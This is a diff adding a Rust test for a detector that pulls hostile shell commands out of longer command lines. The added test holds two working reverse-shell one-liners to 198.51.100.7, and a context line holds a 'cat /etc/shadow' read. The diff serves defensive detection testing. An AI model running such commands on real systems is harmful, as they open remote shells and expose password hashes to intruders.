@@ -110,6 +110,14 @@ fn a_quote_that_a_match_opens_is_closed() {
     assert_eq!(shown("shadow_read", r#"sh -c "cat /etc/shadow""#), ["cat", "/etc/shadow"]);
 }
 
+#[test]
+fn a_shell_tied_to_a_socket_is_shown_whole() {
+    let bash = "id; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1; id";
+    assert_eq!(shown("reverse_shell", bash), ["/bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]);
+    let exec = "exec 196<>/dev/tcp/198.51.100.7/9; sh <&196 >&196 2>&196; id";
+    assert_eq!(shown("reverse_shell", exec), ["exec 196<>/dev/tcp/198.51.100.7/9; sh <&196 >&196 2>&196"]);
+}
+
 /// A pattern may hold in many places of one command.
 #[test]
 fn every_place_is_shown() {
